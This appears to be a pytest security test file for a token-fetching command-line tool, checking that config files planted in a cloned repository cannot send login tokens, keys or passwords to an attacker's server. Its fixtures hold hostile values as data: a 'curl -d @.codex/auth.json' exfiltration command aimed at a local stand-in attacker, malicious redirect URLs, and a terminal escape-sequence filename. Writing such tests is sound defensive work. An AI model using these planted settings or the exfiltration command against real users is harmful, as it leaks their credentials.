"""The real command in a cloned repository that wants the tokens, while a server of the attacker's listens.

No key, password or token leaves where nothing is sent: the server counts connections, and there is none.
"""

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from fetchtoken.settings.keys import ALIASES, KINDS, PROJECT_KEYS
from tests.support.apps import Command, commands
from tests.support.command import Ran, World
from tests.support.logins import auth_document
from tests.support.peers import Broker, Peer
from tests.support.programs import FETCHTOKEN, program
from tests.support.tokens import http, jwt

CANARIES = ("rt_canary-login", "cbk_canary-key", "canary-password")
REFUSED = sorted({*KINDS, *ALIASES} - PROJECT_KEYS)
PLACES = ["scorpiox-env.txt", ".claude/scorpiox-env.txt", ".scorpiox/scorpiox-env.txt", "scorpiox-env/ci.txt"]
"""Where a repository may try; the last is a profile, which another of its files names."""


class Victim(World):
    """Somebody with all that can be stolen, in a repository of somebody else's.

    The login has expired, so that the first thing to do is to send its refresh token somewhere;
    a broker's key and an SSH password lie ready, too.
    """

    def __init__(self, root: Path, server: Peer) -> None:
        super().__init__(root)
        self.url = f"http://127.0.0.1:{server.port}"
        login = auth_document(jwt(age_s=864_000), refresh=CANARIES[0])
        # So that not even a mistake of the test could reach anybody: this port refuses.
        login["tokens"]["oauth_provenance"] = {"issuer": "http://127.0.0.1:9", "client_id": "app_x"}
        self.write(".codex/auth.json", json.dumps(login), mode=0o600)
        self.write("key.txt", CANARIES[1], mode=0o600)
        mine = ["CODEX_REMOTE_URL=http://127.0.0.1:9", f"CODEX_REMOTE_API_KEY_FILE={self.home}/key.txt"]
        mine += [f"CODEX_SSH_PASS={CANARIES[2]}"]
        self.write(".config/codex-fetchtoken/scorpiox-env.txt", "\n".join(mine) + "\n", mode=0o600)
        self.write("project/evil.json", json.dumps(login), mode=0o600)
        self.write("project/evil-key.txt", "cbk_evil", mode=0o600)

    def value(self, key: str) -> str:
        """Return what the attacker would put there."""
        key = ALIASES.get(key, key)
        values = {
            "CODEX_REMOTE_API_KEY": "cbk_evil",
            "CODEX_REMOTE_API_KEY_FILE": f"{self.project}/evil-key.txt",
            "CODEX_CREDENTIALS_FILE": f"{self.project}/evil.json",
            "CODEX_SSH_HOST": "127.0.0.1",
            "CODEX_SSH_PORT": self.url.rpartition(":")[2],
            "CODEX_SSH_USER": "evil",
            "CODEX_SSH_PASS": "evil",
            "CODEX_SSH_COMMAND": f"curl -d @.codex/auth.json {self.url}",
            "CODEX_CACHE_MAX_AGE": "864000",
        }
        by_kind = {"url": self.url, "unused": self.url, "path": str(self.project)}
        return values.get(key) or by_kind[KINDS[key]]

    def plant(self, place: str, *lines: str) -> Path:
        """Put a file into the repository."""
        if "/ci.txt" in place:
            self.write("project/scorpiox-env.txt", "ACTIVE_PROFILE=ci\n")
        return self.write(f"project/{place}", "\n".join(lines) + "\n")

    def real(self, *words: str) -> Ran:
        """Run the installed command in the repository."""
        done = subprocess.run(
            [program(FETCHTOKEN), *words],
            env=self.environ,
            cwd=self.cwd,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        return Ran(done.returncode, done.stdout, done.stderr)


@pytest.fixture
def server() -> Iterator[Broker]:
    """Somebody who would take everything, and answer with a token."""
    given = {"access_token": jwt(), "refresh_token": "rt_evil"}
    with Broker(http(200, given)) as listening:
        yield listening


@pytest.fixture
def victim(tmp_path: Path, server: Broker) -> Victim:
    """Somebody with a login, a broker's key and a password, in a cloned repository."""
    return Victim(tmp_path, server)


def got_nothing(ran: Ran, server: Peer) -> None:
    """Assert that nobody connected, and that nothing secret was said."""
    assert server.accepted == 0, server.requests
    for canary in CANARIES:
        assert canary not in ran.out + ran.err
    assert "eyJ" not in ran.out + ran.err


@pytest.mark.parametrize("key", REFUSED)
@pytest.mark.parametrize("place", PLACES)
def test_a_key_of_the_repository(victim: Victim, server: Broker, place: str, key: str):
    """Exit 8, naming file and key; nothing is sent, whichever source the repository chooses with it."""
    file = victim.plant(place, f"CODEX_TOKEN_SOURCE={_source(key)}", f"{key}={victim.value(key)}")
    ran = (victim.real if place == PLACES[0] else victim.run)()
    assert (ran.code, ran.out) == (8, "")
    first, hint = ran.err.splitlines()
    assert first == f"codex-fetchtoken: the project file {file}, which is not trusted, sets {key}"
    assert hint == f"hint: read it, then run codex-fetchtoken config trust {file}"
    got_nothing(ran, server)


def _source(key: str) -> str:
    """Return the source that reads a key."""
    return "remote" if "REMOTE" in key or "HTTP" in key else "local"


@pytest.mark.parametrize(
    ("key", "secret"),
    [("CODEX_REMOTE_URL", CANARIES[1]), ("CODEX_REFRESH_TOKEN_URL_OVERRIDE", CANARIES[0])],
)
def test_trusted_it_would_have_got_it(victim: Victim, server: Broker, key: str, secret: str):
    """The attack is a real one: after ``config trust`` the server has the secret."""
    file = victim.plant(PLACES[0], f"CODEX_TOKEN_SOURCE={_source(key)}", f"{key}={victim.value(key)}")
    assert victim.real("config", "trust", str(file)).code == 0
    victim.real()
    assert server.accepted > 0
    assert secret in b"".join(server.requests).decode()


def test_changed_after_it_was_trusted(victim: Victim, server: Broker):
    """``git pull`` brings another address: exit 8, saying that the file has changed."""
    file = victim.plant(PLACES[0], "CODEX_REMOTE_URL=http://127.0.0.1:9", "CODEX_REMOTE_API_KEY=cbk_team")
    assert victim.real("config", "trust", str(file)).code == 0
    victim.plant(PLACES[0], "CODEX_TOKEN_SOURCE=remote", f"CODEX_REMOTE_URL={victim.url}")
    ran = victim.real()
    assert ran.code == 8
    assert (
        f"the project file {file}, which has changed since it was trusted, sets CODEX_REMOTE_URL" in ran.err
    )
    got_nothing(ran, server)


HARMLESS = {"config init", "config set", "config show", "config trust", "config untrust"}
"""They change or show the settings; none of them asks anybody."""

WORDS = {
    "file": "evil.json",
    "key": "CODEX_REMOTE_URL",
    "value": "x",
    "words": "true",
    "url": "http://127.0.0.1:9",
}


def _line(command: Command) -> list[str]:
    """Return a line that the command would understand."""
    wanted = [one for one in command.parameters if one.param_type_name == "argument"]
    words = [WORDS.get(one.name, "work") for one in wanted]
    needed = [one for one in command.parameters if one.param_type_name == "option" and one.required]
    return [*command.path[1:], *words, *(word for one in needed for word in (one.opts[0], "x"))]


EVERY = [one for one in commands() if one.path[0] == FETCHTOKEN and one.runs]


@pytest.mark.parametrize("command", EVERY, ids=lambda command: command.words)
def test_every_command_in_such_a_repository(victim: Victim, server: Broker, command: Command):
    """None obeys: those that would use a setting end with exit 8, and nobody is asked by any."""
    victim.plant(
        PLACES[0],
        "CODEX_TOKEN_SOURCE=remote",
        *(f"{key}={victim.value(key)}" for key in REFUSED if key not in ALIASES),
    )
    ran = victim.run(*_line(command))
    got_nothing(ran, server)
    if " ".join(command.path[1:]) not in HARMLESS:
        assert ran.code == 8, ran


# What the person stands in.


def test_the_working_directory_was_deleted(victim: Victim, server: Broker):
    """There is no project then: the command works as anywhere else, and asks nobody new."""
    victim.plant(PLACES[0], f"CODEX_REFRESH_TOKEN_URL_OVERRIDE={victim.url}")
    line = f'rm -r "$PWD" && exec {program(FETCHTOKEN)} --min-valid 0 --no-refresh'
    done = subprocess.run(
        ["/bin/sh", "-c", line],
        env=victim.environ,
        cwd=victim.cwd,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (done.returncode, done.stdout) == (5, ""), done.stderr
    assert "expired" in done.stderr
    got_nothing(Ran(done.returncode, done.stdout, done.stderr), server)


def test_a_name_that_writes_on_the_terminal(victim: Victim, server: Broker):
    """A directory's name with control characters is not played back to the terminal."""
    victim.cwd = victim.project / "x\x1b]0;evil\x07y"
    (victim.cwd / ".git").mkdir(parents=True)
    (victim.cwd / "scorpiox-env.txt").write_text("no equals sign\n")
    ran = victim.real("--no-refresh")
    assert "no = in this line" in ran.err
    assert "\x1b" not in ran.err
    assert "\x07" not in ran.err
    (victim.cwd / "scorpiox-env.txt").write_text(f"CODEX_REMOTE_URL={victim.url}\n")
    for ran in (victim.real(), victim.real("config", "show")):
        assert "sets CODEX_REMOTE_URL" in ran.err
        assert "\x1b" not in ran.err + ran.out
    got_nothing(ran, server)
